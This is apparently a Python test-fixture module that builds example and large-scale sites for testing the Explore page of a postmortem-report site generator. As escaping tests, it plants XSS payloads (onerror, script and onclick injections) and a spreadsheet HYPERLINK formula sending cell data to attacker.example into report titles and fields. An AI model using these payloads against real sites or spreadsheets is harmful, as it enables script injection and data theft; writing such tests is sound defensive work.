"""Sites for the tests of Explore: the example with texts that are hard to show, and one that holds thousands of reports.

Building thousands of pages through a site engine takes minutes, most of them for the theme's frame, which is the same on
each. So the large site takes its frame, styles and scripts from the small one as it was really built, and exchanges what
grows: the facet data, the articles of the reports, the search index that Pagefind makes of them, and the article of
Explore itself. All of these are made by the same functions as in a build, but that a quicker Markdown reader makes HTML of
the reports, whose pages stand there without a frame.
"""

from __future__ import annotations

import re
import shutil
from datetime import date
from pathlib import Path

import markdown
from benchmarks.corpus import write_corpus
from markdown_it import MarkdownIt

from afterword.api.facets import render_facets
from afterword.engine.search_index import build_search
from afterword.index.index import Index, build_index
from afterword.model.project import Project
from afterword.model.settings import Settings
from afterword.pages.explore import render_explore
from afterword.pages.page import SiteFacts
from afterword.pages.report import render_report
from afterword.read.collection import read_collection
from afterword.read.gates import read_gates
from tests.engines.site import NEAR_MISS, ROOT, run

HOSTILE = """<img src=x onerror="alert(1)"> & 'quoted' "title" </li><script>alert(2)</script>"""
FORMULA = '=HYPERLINK("https://attacker.example/?"&A1,"open");=1+1'
JAPANESE = "検索結果の順位が入れ替わった"
CHINESE = "模型在重新训练后给出了不同的答案"
EXTENSIONS = [
    "tables", "admonition", "attr_list", "def_list", "md_in_html", "toc", "pymdownx.details", "pymdownx.highlight",
    "pymdownx.superfences",
]  # fmt: skip
_ATTRIBUTES = re.compile(r"\{:? [.#][^}\n]*\}")
_ARTICLE = re.compile(r"(<article\b[^>]*>).*?(</article>)", re.DOTALL)


def build_example(folder: Path) -> None:
    """Build in `folder/site` the example site with five more reports: hostile names, a formula for a title, Japanese and Chinese."""
    for name in ("overrides", "postmortems"):
        shutil.copytree(ROOT / name, folder / name)
    shutil.copy(ROOT / "mkdocs.yml", folder)
    reports = folder / "postmortems/reports/2026"
    for name, text in _reports().items():
        (reports / name).write_text(text, encoding="utf-8")
    run("mkdocs", "build", "-d", "site", cwd=folder)


def enlarge(frame: Path, folder: Path, number: int) -> Path:
    """A site of `number` reports in the frame of another; see above."""
    site = folder / "site"
    shutil.copytree(frame, site, ignore=shutil.ignore_patterns("reports", "pagefind", "evidence", "api"))
    write_corpus(folder / "postmortems", number)
    index = read_index(folder)
    facts, gates = SiteFacts("Large", "", "", "UTC"), read_gates(Settings().gates)
    reader = MarkdownIt("commonmark").enable("table")
    for report in index.listed:
        text = _ATTRIBUTES.sub("", render_report(report, index, gates, facts).markdown)
        path = site / f"reports/{report.id}/index.html"
        path.parent.mkdir(parents=True)
        path.write_text(f"<title>{report.id}</title><article>{reader.render(text)}</article>", encoding="utf-8")
    page = site / "explore/index.html"
    article = markdown.markdown(next(iter(render_explore(index))).markdown, extensions=EXTENSIONS)
    page.write_text(_ARTICLE.sub(lambda found: f"{found[1]}{article}{found[2]}", page.read_text("utf-8")), "utf-8")
    facets = render_facets(index)
    (site / facets.path).write_bytes(facets.content)
    build_search(site, tuple(report.id for report in index.listed))
    return site


def read_index(folder: Path) -> Index:
    """The index of the reports below `folder/postmortems`."""
    project = Project(root=folder, docs=folder / "postmortems", settings=Settings(default_audience="company"))
    view = read_collection(project, ()).for_audience("company", preview=False)
    return build_index(view, date(2026, 11, 23), count_public_sources=False)


def _reports() -> dict[str, str]:
    return {
        "2026-11-01-hostile.md": NEAR_MISS.format(title=_quoted(HOSTILE))
        .replace("name: chat", f"name: {_quoted('<b>chat</b><script>alert(3)</script>')}")
        .replace("owner_team: shop", f"owner_team: {_quoted('<i onclick=alert(4)>shop</i>')}"),
        "2026-11-02-formula.md": NEAR_MISS.format(title=_quoted(FORMULA)),
        "2026-11-03-japanese.md": _imported(JAPANESE, "割引判定の基準が地域ごとに異なっていた。誰も気づかなかった。"),
        "2026-11-04-chinese.md": _imported(CHINESE, "数据漂移没有触发告警,因为阈值设置得太宽。"),
        "2026-11-05-quoted.md": _imported(
            "A ticket quoted two languages", "The ticket said “商品券の二重発行” and, below it, “优惠券重复发放”."
        ),
    }


def _quoted(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


def _imported(title: str, body: str) -> str:
    return f"---\ntitle: {title}\nlifecycle: imported\naudience: company\n---\n\n## Notes\n\n{body}\n"
